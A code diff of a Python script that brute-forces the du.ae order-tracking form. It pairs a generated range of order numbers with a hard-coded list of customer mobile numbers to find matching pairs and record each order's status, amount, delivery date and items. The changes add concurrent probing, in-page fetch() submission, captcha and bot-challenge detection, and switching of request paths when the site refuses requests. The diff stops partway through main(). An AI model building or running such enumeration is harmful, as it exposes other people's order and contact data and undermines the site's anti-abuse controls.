@@ -5,9 +5,23 @@ Uses webdriver-manager for automatic ChromeDriver management
 """
 
 import os
+import re
+import sys
+import signal
 import time
 import logging
+import threading
+import functools
+from itertools import islice
+from collections import Counter
+from types import MappingProxyType
+from concurrent.futures import ThreadPoolExecutor, as_completed
+from multiprocessing import Pool
+from multiprocessing.util import Finalize
 from datetime import datetime
+from urllib.parse import urljoin
+import requests
+from bs4 import BeautifulSoup
 from selenium import webdriver
 from selenium.webdriver.chrome.options import Options
 from selenium.webdriver.chrome.service import Service
@@ -18,14 +32,142 @@ from selenium.webdriver.support import expected_conditions as EC
 from selenium.common.exceptions import TimeoutException, NoSuchElementException
 import json
 import csv
+from batch_order_tracker import end_with_newline
+
+USER_AGENT = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
+
+# Same text the browser path looks for, matched inside error/alert containers only
+_ERROR_TEXT_RE = re.compile(r"Errors were found|Please check the errors|Invalid|not found")
+# Validation message for a mobile number the site rejects outright, whatever the order
+_INVALID_MOBILE_RE = re.compile(r"(?:enter a valid|invalid) mobile", re.I)
+
+# Bot challenge / captcha pages served in place of the tracking page
+_CHALLENGE_RE = re.compile(r"captcha|just a moment|attention required|access denied", re.I)
+_CHALLENGE_SELECTOR = ".g-recaptcha, .h-captcha, iframe[src*='captcha'], #challenge-form, #cf-challenge-running"
+
+MISMATCH_ERROR = "Order/customer mismatch"
+INVALID_MOBILE_ERROR = "Invalid mobile number"
+
+# 8-digit customer numbers, minus the 00000000 / 50000000 placeholders
+_CUST_RE = re.compile(r'^(?!0{8})(?!50{7})\d{8}$')
+# Status keywords, dates (e.g. "Feb 01, 2025") and amounts in a single sweep; only the keywords ignore case
+_COMBINED = re.compile(
+    r'(?P<status>(?i:delivered|in progress|ready to ship))'
+    r'|(?P<date>\w{3}\s+\d{1,2},\s+\d{4})'
+    r'|AED\s+(?P<amt>[\d,]+\.?\d*)'
+)
+_STATUS_MAP = {  # In priority order when several appear
+    'delivered': 'Delivered',
+    'in progress': 'In Progress',
+    'ready to ship': 'Ready to Ship'
+}
+
+# Stop using a shortcut (plain HTTP or in-page submit) after this many failed
+# responses or challenge pages in a row
+MAX_INCONCLUSIVE_RESPONSES = 3
+
+# Order number suffixes CM0002153161 to CM0002155000
+ORDER_SUFFIXES = range(3161, 5001)
+N_ORDERS = len(ORDER_SUFFIXES)
+
+# Orders processed at once, each in its own process with its own browser
+ORDER_WORKERS = 4
+# Customer threads per order process, keeping the total in-flight requests at 16
+CUSTOMER_THREADS = 16 // ORDER_WORKERS
+
+# Rejected mobile numbers in a row after which a customer is skipped for the rest of the batch
+MAX_CUSTOMER_ERRORS = 5
+
+# Requests Chrome drops before they leave the browser; the form only needs HTML and scripts
+_BLOCKED_URLS = [
+    '*.png', '*.jpg', '*.jpeg', '*.webp', '*.gif', '*.svg',
+    '*.woff*', '*.ttf', '*.mp4', '*.css',
+    '*/analytics*', '*/gtm*', '*doubleclick*'
+]
+
+# ChromeDriver binary, resolved once per process by _driver_path()
+_DRIVER_PATH = None
+_DRIVER_PATH_LOCK = threading.Lock()
+
+# One JSON object per processed order, appended as each order finishes
+RESULTS_FILE = 'railway_results.ndjson'
+CHECKPOINT_BUFFER_SIZE = 64 * 1024
+CHECKPOINT_EVERY = 16  # orders per flush + fsync
+
+# Submits the loaded tracking form with fetch() and hands back the response HTML.
+# Calls back false when the page has no form, null when the request fails.
+_FETCH_FORM_SCRIPT = """
+const [orderNumber, mobileNumber, done] = arguments;
+const form = document.querySelector('#command');
+const orderInput = document.querySelector('#command > div.form__inner > div:nth-child(1) > input[type=text]');
+const mobileInput = document.querySelector('#command > div.form__inner > div:nth-child(2) > input');
+if (!form || !orderInput || !mobileInput) {
+    done(false);
+    return;
+}
+const data = new FormData(form);
+data.set(orderInput.name, orderNumber);
+data.set(mobileInput.name, mobileNumber);
+fetch(form.action, {method: 'POST', body: new URLSearchParams(data), credentials: 'same-origin'})
+    .then(response => response.ok ? response.text() : null)
+    .then(done)
+    .catch(() => done(null));
+"""
+
+def _driver_path():
+    """Install ChromeDriver on first use and return its path"""
+    global _DRIVER_PATH
+    with _DRIVER_PATH_LOCK:
+        if _DRIVER_PATH is None:
+            _DRIVER_PATH = ChromeDriverManager().install()
+    return _DRIVER_PATH
 
 class RailwayOrderTracker:
+    # Locators used by the browser path, built once
+    ORDER_INPUT = (By.CSS_SELECTOR, "#command > div.form__inner > div:nth-child(1) > input[type=text]")
+    MOBILE_INPUT = (By.CSS_SELECTOR, "#command > div.form__inner > div:nth-child(2) > input")
+    TRACK_BUTTON = (By.CSS_SELECTOR, "#command > div.form-section > button")
+    ERROR_LOCATOR = (By.CSS_SELECTOR, ".form__error, [role='alert'], .error-message")
+    SUCCESS_LOCATOR = (By.CSS_SELECTOR, ".order-status, [class*='status']")
+    # Decides a match, so only the results panel's own status element counts; loose
+    # class matches also hit elements on the blank form and the error page
+    STATUS_LOCATOR = (By.CSS_SELECTOR, "[data-testid='order-status'], .order-status")
+    AMOUNT_LOCATOR = (By.CSS_SELECTOR, "[data-testid='total-amount'], .total-amount, [class*='amount']")
+    DATE_LOCATOR = (By.CSS_SELECTOR, "[data-testid='delivery-date'], .delivery-date, [class*='date']")
+    TRACKING_LOCATOR = (By.CSS_SELECTOR, ".tracking-info, .order-details, [class*='tracking']")
+    
+    # Chrome switches for a container: fast cold start, no background work between attempts
+    CHROME_ARGUMENTS = (
+        "--no-sandbox",
+        "--disable-dev-shm-usage",
+        "--disable-gpu",
+        "--disable-extensions",
+        "--disable-plugins",
+        "--disable-background-networking",
+        "--disable-background-timer-throttling",
+        "--disable-backgrounding-occluded-windows",
+        "--disable-renderer-backgrounding",
+        "--disable-sync",
+        "--metrics-recording-only",
+        "--no-first-run",
+        "--no-default-browser-check",
+        "--mute-audio",
+        "--disable-features=TranslateUI,OptimizationHints,MediaRouter",
+        "--window-size=1920,1080",
+        f"--user-agent={USER_AGENT}",
+    )
+    
     def __init__(self, headless=True):
         """Initialize Railway-compatible order tracker"""
         self.url = "https://shop.du.ae/en/order-tracking"
+        self.headless = headless
         self.driver = None
+        self._http_enabled = True
+        self._inconclusive_http = 0
+        self._js_enabled = True
+        self._inconclusive_js = 0
         self.setup_logging()
-        self.setup_driver(headless)
+        self.setup_session()
     
     def setup_logging(self):
         """Setup logging configuration"""
@@ -39,46 +181,272 @@ class RailwayOrderTracker:
         )
         self.logger = logging.getLogger(__name__)
     
+    def setup_session(self):
+        """Setup per-thread keep-alive HTTP sessions for submitting the tracking form directly"""
+        self._local = threading.local()
+        self._sessions = []
+        self._sessions_lock = threading.Lock()
+        
+        # WebDriver is not thread-safe; only one thread drives the browser at a time
+        self._driver_lock = threading.Lock()
+        self.logger.info("HTTP sessions initialized successfully on Railway")
+    
+    @property
+    def session(self):
+        """HTTP session of the calling thread, so each worker keeps its own connection and cookies"""
+        session = getattr(self._local, "session", None)
+        if session is None:
+            session = requests.Session()
+            session.headers.update({"User-Agent": USER_AGENT})
+            self._local.session = session
+            self._local.form = None
+            with self._sessions_lock:
+                self._sessions.append(session)
+        return session
+    
     def setup_driver(self, headless=True):
         """Setup Chrome WebDriver with Railway-compatible options"""
         try:
             chrome_options = Options()
             if headless:
-                chrome_options.add_argument("--headless")
-            chrome_options.add_argument("--no-sandbox")
-            chrome_options.add_argument("--disable-dev-shm-usage")
-            chrome_options.add_argument("--disable-gpu")
-            chrome_options.add_argument("--disable-extensions")
-            chrome_options.add_argument("--disable-plugins")
-            chrome_options.add_argument("--disable-images")
-            chrome_options.add_argument("--disable-javascript")
-            chrome_options.add_argument("--window-size=1920,1080")
-            chrome_options.add_argument("--user-agent=Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36")
+                chrome_options.add_argument("--headless=new")
+            for argument in self.CHROME_ARGUMENTS:
+                chrome_options.add_argument(argument)
+            chrome_options.add_experimental_option("prefs", {
+                "profile.managed_default_content_settings.images": 2
+            })
             
             # Use webdriver-manager for automatic ChromeDriver management
-            service = Service(ChromeDriverManager().install())
+            service = Service(_driver_path())
             self.driver = webdriver.Chrome(service=service, options=chrome_options)
+            self.driver.set_script_timeout(10)
+            
+            # Shared waits; polling faster than the 500ms default returns sooner on quick pages
+            self._wait_short = WebDriverWait(self.driver, 5, poll_frequency=0.2)
+            self._wait_long = WebDriverWait(self.driver, 10, poll_frequency=0.25)
+            
+            # Block images, fonts, styles and trackers at the network layer
+            self.driver.execute_cdp_cmd('Network.enable', {})
+            self.driver.execute_cdp_cmd('Network.setBlockedURLs', {'urls': _BLOCKED_URLS})
+            
+            # Load the form once; later attempts submit it in-page with track_order_js
+            self.driver.get(self.url)
+            
+            # Implicit waits stack on top of the explicit waits above and slow down every
+            # find_elements that comes back empty (e.g. the error probe); keep them off.
+            # Selenium warns against mixing the two (SeleniumHQ/selenium#7007)
+            self.driver.implicitly_wait(0)
             self.logger.info("Chrome WebDriver initialized successfully on Railway")
         except Exception as e:
             self.logger.error(f"Failed to initialize Chrome WebDriver: {e}")
             raise
     
     def track_order(self, order_number, mobile_number):
-        """Track order on du.ae website"""
+        """Track order on du.ae website, over plain HTTP when possible"""
+        results = None
+        if self._http_enabled:
+            results = self.track_order_http(order_number, mobile_number)
+            if results is None:
+                # Once HTTP is switched off that is logged a single time, not per attempt
+                self.logger.info("HTTP tracking unavailable, falling back to browser")
+        if results is None:
+            with self._driver_lock:
+                if self.driver is None:
+                    self.setup_driver(self.headless)
+                if self._js_enabled:
+                    results = self.track_order_js(order_number, mobile_number)
+                if results is None:
+                    results = self.track_order_browser(order_number, mobile_number)
+        return results
+    
+    def track_order_js(self, order_number, mobile_number):
+        """
+        Submit the tracking form with fetch() from inside the loaded page, without navigating
+        
+        Returns:
+            dict: Order tracking results, or None if a full page navigation is needed
+        """
+        try:
+            html = self.driver.execute_async_script(_FETCH_FORM_SCRIPT, order_number, mobile_number)
+            if html is False:
+                # Page left the tracking form (e.g. after a full navigation); reload it once
+                self.driver.get(self.url)
+                html = self.driver.execute_async_script(_FETCH_FORM_SCRIPT, order_number, mobile_number)
+        except Exception as e:
+            self.logger.warning(f"In-page form submit failed: {e}")
+            return None
+        
+        # null means the request failed or was refused; parse_results gives None for a
+        # challenge page. A tracking page without results is a no-match and parses normally
+        results = self.parse_results(html) if html else None
+        if results is None:
+            self._inconclusive_js += 1
+            if self._inconclusive_js >= MAX_INCONCLUSIVE_RESPONSES:
+                self.logger.warning("In-page requests keep getting refused or challenged, navigating for every attempt")
+                self._js_enabled = False
+            return None
+        
+        self._inconclusive_js = 0
+        return results
+    
+    def load_form(self):
+        """
+        Fetch the tracking page and read the form's action, hidden fields and input names
+        
+        Returns:
+            dict: Form description, or None if the page doesn't contain the form
+        """
+        response = self.session.get(self.url, timeout=10)
+        if response.status_code != 200:
+            self.logger.warning(f"Tracking page returned HTTP {response.status_code}")
+            return None
+        
+        soup = BeautifulSoup(response.content, "lxml")
+        form = soup.select_one("#command")
+        order_input = soup.select_one("#command > div.form__inner > div:nth-child(1) > input[type=text]")
+        mobile_input = soup.select_one("#command > div.form__inner > div:nth-child(2) > input")
+        if not form or not order_input or not mobile_input:
+            self.logger.warning("Tracking form not found in page (possible bot challenge)")
+            return None
+        
+        return {
+            "action": urljoin(response.url, form.get("action") or response.url),
+            "method": (form.get("method") or "post").lower(),
+            "hidden": {
+                field["name"]: field.get("value", "")
+                for field in form.select("input[type=hidden][name]")
+            },
+            "order_field": order_input.get("name"),
+            "mobile_field": mobile_input.get("name")
+        }
+    
+    def track_order_http(self, order_number, mobile_number):
+        """
+        Submit the tracking form with requests and parse the returned HTML
+        
+        Returns:
+            dict: Order tracking results, or None if the site needs a real browser
+        """
+        try:
+            self.logger.info(f"Starting order tracking for order: {order_number}")
+            
+            # The form (and its CSRF token) is fetched once per session and reused
+            session = self.session
+            form = self._local.form
+            if form is None:
+                form = self._local.form = self.load_form()
+                if form is None:
+                    return None
+            
+            data = dict(form["hidden"])
+            data[form["order_field"]] = order_number
+            data[form["mobile_field"]] = mobile_number
+            
+            if form["method"] == "get":
+                response = session.get(form["action"], params=data, timeout=10)
+            else:
+                response = session.post(form["action"], data=data, timeout=10)
+            
+            results = None
+            if response.status_code != 200:
+                self.logger.warning(f"Tracking request returned HTTP {response.status_code}")
+                self._local.form = None
+            else:
+                results = self.parse_results(response.text)
+            
+            if results is None:
+                # Refused or challenged; let the browser decide
+                self._inconclusive_http += 1
+                if self._inconclusive_http >= MAX_INCONCLUSIVE_RESPONSES:
+                    self.logger.warning("HTTP requests keep getting refused or challenged, using the browser from now on")
+                    self._http_enabled = False
+                return None
+            
+            self._inconclusive_http = 0
+            return results
+            
+        except requests.RequestException as e:
+            self.logger.warning(f"HTTP tracking failed: {e}")
+            self._local.form = None
+            return None
+    
+    def parse_results(self, html):
+        """
+        Read the error banner, order status and tracking details from a results page
+        
+        Returns:
+            dict: Order tracking results (status "no_match" when the page has no results panel),
+                or None if the page is a bot challenge rather than the tracking page
+        """
+        soup = BeautifulSoup(html, "lxml")
+        
+        # Check for error messages first
+        for element in soup.select("[class*='error'], [class*='alert'], [role='alert']"):
+            text = element.get_text()
+            if _ERROR_TEXT_RE.search(text):
+                return self.error_result(text)
+        
+        results = {
+            "timestamp": time.strftime("%Y-%m-%d %H:%M:%S"),
+            "order_status": None,
+            "total_amount": None,
+            "delivery_date": None,
+            "tracking_info": {}
+        }
+        if self.logger.isEnabledFor(logging.DEBUG):
+            results["page_content_len"] = len(html)
+        
+        status_element = soup.select_one(self.STATUS_LOCATOR[1])
+        if status_element:
+            results["order_status"] = status_element.get_text("\n", strip=True)
+            self.logger.info(f"Found order status: {results['order_status']}")
+        
+        for key, locator in (("total_amount", self.AMOUNT_LOCATOR), ("delivery_date", self.DATE_LOCATOR)):
+            element = soup.select_one(locator[1])
+            if element:
+                results[key] = element.get_text(" ", strip=True)
+        
+        for element in soup.select(".tracking-info, .order-details, [class*='tracking']"):
+            text = element.get_text("\n", strip=True)
+            if text:
+                results["tracking_info"][" ".join(element.get("class", [])) or "info"] = text
+        
+        if not results["tracking_info"]:
+            # The tracking page without a results panel is how the site answers a pair that
+            # doesn't match; only a challenge or captcha page is inconclusive
+            if not self.is_tracking_page(soup):
+                self.logger.warning("Response is not the tracking page (possible bot challenge)")
+                return None
+            results["status"] = "no_match"
+        
+        return results
+    
+    def is_tracking_page(self, soup):
+        """Whether a response is the site's own tracking page rather than a bot challenge or captcha"""
+        title = soup.title.get_text() if soup.title else ""
+        if _CHALLENGE_RE.search(title) or soup.select_one(_CHALLENGE_SELECTOR):
+            return False
+        return "Order Tracking" in title or soup.select_one("#command") is not None
+    
+    def track_order_browser(self, order_number, mobile_number):
+        """Track order on du.ae website with Selenium"""
         try:
             self.logger.info(f"Starting order tracking for order: {order_number}")
             
+            if self.driver is None:
+                self.setup_driver(self.headless)
+            
             # Navigate to the order tracking page
             self.driver.get(self.url)
             self.logger.info("Navigated to du.ae order tracking page")
             
             # Wait for page to load
-            wait = WebDriverWait(self.driver, 10)
+            wait = self._wait_long
             
             # Find and fill order number field
             try:
                 order_input = wait.until(
-                    EC.presence_of_element_located((By.CSS_SELECTOR, "#command > div.form__inner > div:nth-child(1) > input[type=text]"))
+                    EC.presence_of_element_located(self.ORDER_INPUT)
                 )
                 order_input.clear()
                 order_input.send_keys(order_number)
@@ -90,7 +458,7 @@ class RailwayOrderTracker:
             # Find and fill mobile number field
             try:
                 mobile_input = wait.until(
-                    EC.presence_of_element_located((By.CSS_SELECTOR, "#command > div.form__inner > div:nth-child(2) > input"))
+                    EC.presence_of_element_located(self.MOBILE_INPUT)
                 )
                 mobile_input.clear()
                 mobile_input.send_keys(mobile_number)
@@ -102,7 +470,7 @@ class RailwayOrderTracker:
             # Find and click track button
             try:
                 track_button = wait.until(
-                    EC.element_to_be_clickable((By.CSS_SELECTOR, "#command > div.form-section > button"))
+                    EC.element_to_be_clickable(self.TRACK_BUTTON)
                 )
                 track_button.click()
                 self.logger.info("Clicked track order button")
@@ -110,21 +478,23 @@ class RailwayOrderTracker:
                 self.logger.error("Could not find track button")
                 return {"error": "Track button not found"}
             
-            # Wait for results and check for errors
+            # Wait until either an error message or the order status shows up
             self.logger.info("Waiting for page to load...")
-            time.sleep(3)
+            try:
+                self._wait_short.until(
+                    lambda d: self.find_errors() or d.find_elements(*self.SUCCESS_LOCATOR)
+                )
+            except TimeoutException:
+                self.logger.warning("Timed out waiting for tracking response, checking page as-is")
             
             # Check for error messages
             try:
-                error_elements = self.driver.find_elements(By.XPATH, "//*[contains(text(), 'Errors were found') or contains(text(), 'Please check the errors') or contains(text(), 'Invalid') or contains(text(), 'not found')]")
-                if error_elements:
-                    self.logger.info("❌ Error detected: Order/customer mismatch")
-                    return {"error": "Order/customer mismatch", "status": "no_match"}
+                errors = self.find_errors()
+                if errors:
+                    return self.error_result(" ".join(element.text for element in errors))
             except Exception as e:
                 self.logger.debug(f"Error checking for error messages: {e}")
             
-            # If no errors, wait a bit more for valid results
-            time.sleep(2)
             self.logger.info("Wait completed, proceeding to capture results")
             
             # Capture the results
@@ -135,40 +505,53 @@ class RailwayOrderTracker:
             self.logger.error(f"Error tracking order: {e}")
             return {"error": str(e)}
     
+    def find_errors(self):
+        """Return the form's error containers showing an error message (same text check as parse_results)"""
+        return [element for element in self.driver.find_elements(*self.ERROR_LOCATOR) if _ERROR_TEXT_RE.search(element.text)]
+    
+    def error_result(self, text):
+        """Result for an error banner, telling a rejected mobile number apart from a plain mismatch"""
+        if _INVALID_MOBILE_RE.search(text):
+            self.logger.info("❌ Error detected: Invalid mobile number")
+            return {"error": INVALID_MOBILE_ERROR, "status": "no_match"}
+        self.logger.info("❌ Error detected: Order/customer mismatch")
+        return {"error": MISMATCH_ERROR, "status": "no_match"}
+    
     def capture_results(self):
         """Capture the order tracking results from the page"""
         results = {
             "timestamp": time.strftime("%Y-%m-%d %H:%M:%S"),
-            "order_status": "Unknown",
-            "tracking_info": {},
-            "page_content": ""
+            "order_status": None,
+            "total_amount": None,
+            "delivery_date": None,
+            "tracking_info": {}
         }
         
         try:
-            # Wait for results to appear
-            wait = WebDriverWait(self.driver, 10)
-            
-            # Try to find order status information
-            try:
-                status_element = wait.until(
-                    EC.presence_of_element_located((By.CSS_SELECTOR, ".order-status, .status, [class*='status']"))
-                )
-                results["order_status"] = status_element.text
+            # The caller already waited for the response, so read the page as it is
+            status_elements = self.driver.find_elements(*self.STATUS_LOCATOR)
+            if status_elements:
+                results["order_status"] = status_elements[0].text
                 self.logger.info(f"Found order status: {results['order_status']}")
-            except TimeoutException:
-                self.logger.warning("Could not find order status element")
             
             # Try to find tracking details
             try:
-                tracking_elements = self.driver.find_elements(By.CSS_SELECTOR, ".tracking-info, .order-details, [class*='tracking']")
+                tracking_elements = self.driver.find_elements(*self.TRACKING_LOCATOR)
                 for element in tracking_elements:
                     if element.text.strip():
                         results["tracking_info"][element.get_attribute("class") or "info"] = element.text
             except Exception as e:
                 self.logger.warning(f"Could not extract tracking details: {e}")
             
-            # Capture page content for manual review
-            results["page_content"] = self.driver.page_source
+            # Read amount and delivery date from their own elements
+            for key, locator in (("total_amount", self.AMOUNT_LOCATOR), ("delivery_date", self.DATE_LOCATOR)):
+                elements = self.driver.find_elements(*locator)
+                if elements:
+                    results[key] = elements[0].text
+            
+            # Record only the page size; the full source is too large to keep per attempt
+            if self.logger.isEnabledFor(logging.DEBUG):
+                results["page_content_len"] = len(self.driver.page_source)
             
         except Exception as e:
             self.logger.error(f"Error capturing results: {e}")
@@ -177,25 +560,32 @@ class RailwayOrderTracker:
         return results
     
     def close(self):
-        """Close the browser driver"""
+        """Close the HTTP sessions and the browser driver"""
+        with self._sessions_lock:
+            for session in self._sessions:
+                session.close()
+            self._sessions.clear()
         if self.driver:
             self.driver.quit()
             self.logger.info("Browser driver closed")
 
 class RailwayBatchTracker:
-    def __init__(self, headless=True):
+    def __init__(self, headless=True, max_workers=16, log_file='railway_batch_tracker.log'):
         """Initialize Railway batch tracker"""
         self.tracker = None
-        self.setup_logging()
+        self.pool = ThreadPoolExecutor(max_workers=max_workers)
+        self._dead = Counter()
+        self._skip = set()
+        self.setup_logging(log_file)
         self.setup_tracker(headless)
     
-    def setup_logging(self):
+    def setup_logging(self, log_file='railway_batch_tracker.log'):
         """Setup logging configuration"""
         logging.basicConfig(
             level=logging.INFO,
             format='%(asctime)s - %(levelname)s - %(message)s',
             handlers=[
-                logging.FileHandler('railway_batch_tracker.log'),
+                logging.FileHandler(log_file),
                 logging.StreamHandler()
             ]
         )
@@ -225,88 +615,163 @@ class RailwayBatchTracker:
             "timestamp": datetime.now().isoformat()
         }
         
-        for customer_number in customer_numbers:
-            order_result["attempts"] += 1
-            
-            try:
-                self.logger.info(f"Testing {order_number} with customer {customer_number}")
+        # Test customers concurrently; the first match cancels the ones not started yet
+        futures = {
+            self.pool.submit(self.test_customer, order_number, customer_number): customer_number
+            for customer_number in customer_numbers
+            if customer_number not in self._skip
+        }
+        
+        # Whether the site answered at least one probe for this order
+        answered = False
+        
+        try:
+            for future in as_completed(futures):
+                customer_number = futures[future]
+                order_result["attempts"] += 1
+                
+                try:
+                    results = future.result()
+                except Exception as e:
+                    self.logger.error(f"Error testing {order_number} with {customer_number}: {e}")
+                    order_result["error"] = str(e)
+                    continue
+                
+                error = results.get("error")
                 
-                # Track the order
-                results = self.tracker.track_order(order_number, customer_number)
+                # Only the site rejecting the mobile number counts towards skipping the customer;
+                # timeouts, missing fields and network failures say nothing about the customer
+                if error == INVALID_MOBILE_ERROR:
+                    answered = True
+                    self.record_customer_error(customer_number)
+                    continue
                 
-                # Check for error/mismatch first
-                if results.get("error") == "Order/customer mismatch":
+                # A plain mismatch: the site answered, just not for this customer
+                if error == MISMATCH_ERROR:
+                    answered = True
+                    self._dead.pop(customer_number, None)
                     self.logger.info(f"❌ Mismatch: {order_number} with customer {customer_number}")
                     continue
                 
-                # Check if we got valid results
-                if "error" not in results and results.get("tracking_info"):
-                    # Extract order information
-                    tracking_info = results.get("tracking_info", {})
+                if error is not None:
+                    self.logger.warning(f"Error testing {order_number} with {customer_number}: {error}")
+                    order_result["error"] = error
+                    continue
+                
+                answered = True
+                self._dead.pop(customer_number, None)
+                
+                # A status element or status text on the page means the order/customer pair matched
+                if self._is_match(results):
+                    parsed = dict(self._parse_tracking("\n".join(results["tracking_info"].values())))
+                    parsed["items"] = list(parsed["items"])
+                    
+                    # Fields with their own element override the general tracking text,
+                    # but only when the element text actually parses to a value
+                    for field in ("order_status", "delivery_date", "total_amount"):
+                        if results[field]:
+                            value = self._parse_tracking(results[field])[field]
+                            if value and value != "Unknown":
+                                parsed[field] = value
+                    
+                    order_result["status"] = "found"
+                    order_result["matched_customer"] = customer_number
+                    order_result["error"] = None
+                    order_result.update(parsed)
                     
-                    # Look for order status in the tracking info
-                    for key, value in tracking_info.items():
-                        if "order status" in key.lower() or "delivered" in value.lower():
-                            order_result["status"] = "found"
-                            order_result["matched_customer"] = customer_number
-                            order_result["order_status"] = self.extract_order_status(value)
-                            order_result["delivery_date"] = self.extract_delivery_date(value)
-                            order_result["total_amount"] = self.extract_total_amount(value)
-                            order_result["items"] = self.extract_items(value)
-                            
-                            self.logger.info(f"✅ MATCH FOUND: {order_number} with customer {customer_number}")
-                            return order_result
+                    self.logger.info(f"✅ MATCH FOUND: {order_number} with customer {customer_number}")
+                    return order_result
                 
                 # If no match found, continue to next customer
                 self.logger.info(f"❌ No match for {order_number} with customer {customer_number}")
-                
-            except Exception as e:
-                self.logger.error(f"Error testing {order_number} with {customer_number}: {e}")
-                order_result["error"] = str(e)
-                continue
+        finally:
+            for future in futures:
+                future.cancel()
+        
+        # Without a single answer from the site the order wasn't really checked
+        if not answered:
+            order_result["status"] = "error"
+            order_result["error"] = order_result["error"] or "No customer could be tested"
+            self.logger.error(f"Could not check order {order_number}: {order_result['error']}")
+            return order_result
         
         # If we get here, no customer matched
-        self.logger.warning(f"❌ No match found for order {order_number} after trying {len(customer_numbers)} customers")
+        self.logger.warning(f"❌ No match found for order {order_number} after trying {len(futures)} customers")
         return order_result
     
-    def extract_order_status(self, text):
-        """Extract order status from tracking text"""
-        if "delivered" in text.lower():
-            return "Delivered"
-        elif "in progress" in text.lower():
-            return "In Progress"
-        elif "ready to ship" in text.lower():
-            return "Ready to Ship"
-        else:
-            return "Unknown"
-    
-    def extract_delivery_date(self, text):
-        """Extract delivery date from tracking text"""
-        import re
-        date_pattern = r'(\w{3}\s+\d{1,2},\s+\d{4})'
-        match = re.search(date_pattern, text)
-        return match.group(1) if match else None
-    
-    def extract_total_amount(self, text):
-        """Extract total amount from tracking text"""
-        import re
-        amount_pattern = r'AED\s+([\d,]+\.?\d*)'
-        matches = re.findall(amount_pattern, text)
-        return matches[-1] if matches else None
-    
-    def extract_items(self, text):
-        """Extract items from tracking text"""
+    @staticmethod
+    def _is_match(results):
+        """
+        Whether a results page shows an order
+        
+        The captured results page has no dedicated status element; its status only
+        appears as an "Order status" line in the tracking details, so those count too
+        """
+        if results.get("order_status"):
+            return True
+        for key, value in results.get("tracking_info", {}).items():
+            value_lower = value.lower()
+            if "order status" in key.lower() or "order status" in value_lower or "delivered" in value_lower:
+                return True
+        return False
+    
+    def record_customer_error(self, customer_number):
+        """Count a rejected mobile number for a customer and skip it once it keeps failing"""
+        self._dead[customer_number] += 1
+        if self._dead[customer_number] >= MAX_CUSTOMER_ERRORS and customer_number not in self._skip:
+            self._skip.add(customer_number)
+            self.logger.warning(f"Skipping customer {customer_number} after {MAX_CUSTOMER_ERRORS} rejected attempts in a row")
+    
+    def test_customer(self, order_number, customer_number):
+        """Track one order/customer combination (runs on a worker thread)"""
+        self.logger.info(f"Testing {order_number} with customer {customer_number}")
+        return self.tracker.track_order(order_number, customer_number)
+    
+    @staticmethod
+    @functools.lru_cache(maxsize=4096)
+    def _parse_tracking(text):
+        """
+        Extract status, delivery date, total amount and items in one pass over the text
+        
+        Results are cached per text, so they are read-only; copy before changing them
+        
+        Returns:
+            MappingProxyType: order_status, delivery_date, total_amount and items (a tuple)
+        """
+        statuses = set()
+        delivery_date = None
+        total_amount = None
+        for match in _COMBINED.finditer(text):
+            if match.group("status"):
+                statuses.add(match.group("status").lower())
+            elif match.group("date"):
+                delivery_date = delivery_date or match.group("date")
+            else:
+                total_amount = match.group("amt")  # The last amount is the order total
+        
+        order_status = next((status for keyword, status in _STATUS_MAP.items() if keyword in statuses), "Unknown")
+        
         items = []
         if "Home Wireless" in text:
             items.append("Home Wireless Plus")
         if "New Sim" in text:
             items.append("New Sim")
-        return items
+        
+        return MappingProxyType({
+            "order_status": order_status,
+            "delivery_date": delivery_date,
+            "total_amount": total_amount,
+            "items": tuple(items)
+        })
     
     def close(self):
-        """Close the tracker"""
+        """Stop the worker threads and close the tracker"""
+        # Drop queued probes and quit the browser before waiting, so a probe
+        # stuck in Selenium fails fast instead of holding up the shutdown
+        self.pool.shutdown(wait=False, cancel_futures=True)
         if self.tracker:
             self.tracker.close()
+        self.pool.shutdown(wait=True)
 
 def load_data_from_files():
     """Load order and customer numbers"""
@@ -338,14 +803,72 @@ def load_data_from_files():
         "24967136", "42732830", "62525101", "88846346", "63989671", "27888347", "58527805", "06987286",
         "53540799", "44396957", "58134927"
     ]
+    customer_numbers = list(dict.fromkeys(customer_numbers))
+    
+    # Drop placeholders and malformed numbers before they cost a request each
+    valid_customers = [c for c in customer_numbers if _CUST_RE.match(c)]
+    dropped = len(customer_numbers) - len(valid_customers)
+    if dropped:
+        print(f"🧹 Dropped {dropped} invalid customer numbers")
+    customer_numbers = valid_customers
     
-    # Generate order numbers (CM0002153161 to CM0002155000)
-    order_numbers = []
-    for i in range(3161, 5001):
-        order_numbers.append(f"CM000215{i}")
+    # Generate order numbers lazily (CM0002153161 to CM0002155000)
+    order_numbers = (f"CM000215{i}" for i in ORDER_SUFFIXES)
     
     return order_numbers, customer_numbers
 
+def load_checkpoint(path=RESULTS_FILE):
+    """
+    Read the orders already processed by a previous run
+    
+    Args:
+        path (str): NDJSON checkpoint file
+        
+    Returns:
+        list: Order results in the order they were written
+    """
+    results = []
+    if not os.path.exists(path):
+        return results
+    
+    with open(path) as f:
+        for line in f:
+            try:
+                results.append(json.loads(line))
+            except json.JSONDecodeError:
+                # A run killed mid-write can leave a truncated last line
+                continue
+    return results
+
+# Per-process state for the order worker pool
+_worker_tracker = None
+_worker_customers = None
+
+def _init_worker(customer_numbers, headless=True):
+    """Give each worker process its own tracker, browser and log file"""
+    global _worker_tracker, _worker_customers
+    _worker_customers = customer_numbers
+    _worker_tracker = RailwayBatchTracker(
+        headless=headless,
+        max_workers=CUSTOMER_THREADS,
+        log_file=f'railway_batch_tracker_{os.getpid()}.log'
+    )
+    # Runs when the worker exits, so the browser is not left behind
+    Finalize(None, _worker_tracker.close, exitpriority=10)
+    # Pool.terminate() (e.g. the parent leaving its with block on SIGTERM) stops
+    # workers with SIGTERM, which would otherwise kill them without running Finalize
+    signal.signal(signal.SIGTERM, _stop_worker)
+
+def _stop_worker(signum, frame):
+    """Drop the worker's queued probes and exit through Finalize, which closes the browser"""
+    if _worker_tracker:
+        _worker_tracker.pool.shutdown(wait=False, cancel_futures=True)
+    raise SystemExit(0)
+
+def _work(order_number):
+    """Process one order in a worker process"""
+    return _worker_tracker.process_single_order(order_number, _worker_customers)
+
 def main():
     """Main function for Railway deployment"""
     print("🚀 Railway Fixed Batch Order Tracker Starting...")
@@ -355,35 +878,64 @@ def main():
     order_numbers, customer_numbers = load_data_from_files()
     
     print(f"📊 Data Loaded:")
